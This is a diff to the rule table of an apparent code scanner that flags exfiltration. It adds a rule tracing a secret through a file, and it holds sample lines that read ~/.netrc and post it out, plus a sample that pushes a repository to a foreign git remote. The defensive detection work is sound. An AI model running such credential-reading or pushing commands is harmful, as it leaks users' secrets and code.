@@ -107,4 +107,9 @@ RULES = (
         "exfiltration.git-remote", Severity.HIGH, "the repository is pushed to, or its mail is sent through, somebody else's remote", _ADVICE, "git remote add mirror https://git.example.net/x.git && git push -q mirror --all", "git push origin main\n",
         terms=(r"\bgit\s+(?:-\w+\s+)*remote\s+(?:add|set-url)\b", r"\bgit\s+(?:-\w+\s+)*push\b[^\n]{0,40}(?:--all|--mirror|-q|--quiet|--force|2>)"), gap=160, where=Where.ANY, example_path=_SH, in_prose=None, unless=r"\borigin\b|upstream|your-|<",
     ),
+    Rule(
+        "exfiltration.flow", Severity.HIGH, "a secret is sent: its name is followed through the file", _ADVICE,
+        "home = os.path.expanduser('~')\ntext = open(os.path.join(home, '.netrc')).read()\nbody = text.strip()\nsession.post(url, data=body)\n",
+        "text = open('rates.csv').read()\nsession.post(url, data=text)\n", example_path=_PY,
+    ),
 )  # fmt: skip
